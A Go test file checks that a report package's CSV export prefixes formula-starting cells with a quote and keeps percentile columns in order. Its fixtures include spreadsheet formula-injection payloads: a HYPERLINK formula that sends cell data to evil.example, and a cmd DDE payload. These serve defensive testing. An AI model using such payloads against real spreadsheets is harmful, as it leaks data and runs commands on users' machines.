package report

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
)

func TestTextEscapesFormulas(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"sendmsg → qdisc", "sendmsg → qdisc"},
		{"a=b", "a=b"},
		{"'quoted already", "'quoted already"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := text(tt.in); got != tt.want {
			t.Errorf("text(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestNumberKeepsNumbers(t *testing.T) {
	tests := []struct{ in, want string }{
		{"-1.5", "-1.5"},
		{"-3", "-3"},
		{"0.00166667", "0.00166667"},
		{"-1.2e-05", "-1.2e-05"},
		{"1e+06", "1e+06"},
		{"", ""},
		{"-Inf", "'-Inf"},
		{"+Inf", "'+Inf"},
		{"NaN", "NaN"},
		{"-1+1", "'-1+1"},
	}
	for _, tt := range tests {
		if got := number(tt.in); got != tt.want {
			t.Errorf("number(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriteCSVEscapesEveryTextCell puts a formula in every text an agent,
// a node or an operator controls and reads the file back as a spreadsheet
// would: no cell may start a formula, but negative numbers stay numbers.
func TestWriteCSVEscapesEveryTextCell(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	neg, pos := -1.5, 2.0
	cnt := int64(-4)
	child := "@child"
	t0 := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	r := &Report{
		Period: Period{From: t0, To: t0.Add(time.Hour), PreviousFrom: t0.Add(-time.Hour), PreviousTo: t0},
		Scope:  Scope{Nodes: []string{"+node-a", "node-b"}},
		Ping: Ping{
			Targets: []PingTarget{{Target: "-peer", Nodes: []string{"@n"}, P50: &neg, P99: &pos, Sent: &cnt}},
			PerNode: []PingNode{{Node: "\tnode", P50: &neg}},
			Series:  []PingSeries{{Target: "=t", Points: []PingPoint{{T: t0, P50: &neg}}}},
		},
		KernelLatency: []KernelLatency{{Metric: "latency/tx/x", Title: evil, P50: &neg, Count: -7}},
		Reliability: Reliability{
			Resets: []ReasonRow{{Metric: "tcp_reset/sent/=x", Reason: "+reason", Direction: "-sent", Count: 3, PerHour: &neg}},
			Drops:  []ReasonRow{{Metric: "drops/x", Reason: "@r", Count: 1}},
		},
		Availability: []Availability{{Node: "=node", Root: "ping", OK: 1}},
		Incidents:    []Incident{{Node: "\rnode", Root: "=root", State: "warn", Start: t0, End: t0, Child: &child, TreeURL: "=url"}},
		Objectives:   []ObjectiveResult{{Name: "-objective", Attainment: &neg}},
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	rd := csv.NewReader(&b)
	rd.FieldsPerRecord = -1
	rows, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back: %v", err)
	}
	cells := map[string]bool{}
	for _, row := range rows {
		for _, c := range row {
			cells[c] = true
			if c != "" && strings.ContainsRune(formulaStart, rune(c[0])) && !plainNumber.MatchString(c) {
				t.Errorf("cell %q starts a formula (row %q)", c, row)
			}
		}
	}
	for _, want := range []string{"'" + evil, "'+node-a node-b", "'-peer", "'@n", "'\tnode", "'=t", "'+reason", "'-sent",
		"'@r", "'=node", "'\rnode", "'=root", "'@child", "'=url", "'-objective", "-1.5", "-4", "-7"} {
		if !cells[want] {
			t.Errorf("no cell %q in:\n%s", want, b.String())
		}
	}
}

// TestWriteCSVPercentileOrder reads every table's header row and the row
// under it: the percentile columns come in one order everywhere (p50, p90,
// p99, max, whatever their prefix or unit), a table that repeats another's
// columns (ping_node after ping_target) keeps their order, and each value
// sits under its own column.
func TestWriteCSVPercentileOrder(t *testing.T) {
	v := func(x float64) *float64 { return &x }
	t0 := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	// Each percentile's value names it: p50 = 50, p90 = 90, p99 = 99, max = 100.
	r := &Report{
		Period: Period{From: t0, To: t0.Add(time.Hour)},
		Ping: Ping{
			Targets: []PingTarget{{Target: "gw", P50: v(50), P90: v(90), P99: v(99), Max: v(100), HostDelayP50: v(50), HostDelayP99: v(99),
				Previous: PingPrevious{P50: v(50), P99: v(99)}}},
			PerNode: []PingNode{{Node: "n", P50: v(50), P90: v(90), P99: v(99), Max: v(100), HostDelayP50: v(50), HostDelayP99: v(99)}},
			Series:  []PingSeries{{Target: "gw", Points: []PingPoint{{T: t0, P50: v(50), P99: v(99)}}}},
		},
		KernelLatency: []KernelLatency{{Metric: "latency/tx", Title: "tx", P50: v(50), P90: v(90), P99: v(99), Max: v(100),
			Previous: KernelPrevious{P50: v(50), P99: v(99)}}},
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	rd := csv.NewReader(&b)
	rd.FieldsPerRecord = -1
	rows, err := rd.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	rank := map[string]int{"p50": 0, "p90": 1, "p99": 2, "max": 3}
	want := map[string]float64{"p50": 50, "p90": 90, "p99": 99, "max": 100}
	quantile := regexp.MustCompile(`^(.*?)(p50|p90|p99|max)_(ms|us)$`)
	headers := map[string][]string{}
	checked := 0
	for i := 0; i+1 < len(rows); i++ {
		h, data := rows[i], rows[i+1]
		if h[0] != "section" || data[0] == "section" {
			continue
		}
		headers[data[0]] = h
		last := map[string]int{} // by prefix ("", "host_delay_", "previous_")
		for j, col := range h {
			m := quantile.FindStringSubmatch(col)
			if m == nil {
				continue
			}
			checked++
			prefix, q := m[1], m[2]
			if k, ok := last[prefix]; ok && rank[q] <= k {
				t.Errorf("%s: column %s comes after a later percentile of %q: %v", data[0], col, prefix, h)
			}
			last[prefix] = rank[q]
			if j >= len(data) || data[j] != strconv.FormatFloat(want[q], 'g', 6, 64) {
				t.Errorf("%s: column %s holds %q, want %v", data[0], col, data[j], want[q])
			}
		}
	}
	if checked < 15 {
		t.Fatalf("checked %d percentile columns, want every table's (%v)", checked, headers)
	}
	// The per-node table repeats the per-target one's measures, in its order.
	common := func(h []string) []string {
		var out []string
		for _, c := range h[2:] {
			if quantile.MatchString(c) || strings.HasSuffix(c, "_probes") || c == "loss_ratio" {
				if !strings.HasPrefix(c, "previous_") {
					out = append(out, c)
				}
			}
		}
		return out
	}
	if a, b := common(headers["ping_target"]), common(headers["ping_node"]); strings.Join(a, ",") != strings.Join(b, ",") {
		t.Errorf("ping_node's columns %v, ping_target's %v: want the same order", b, a)
	}
}
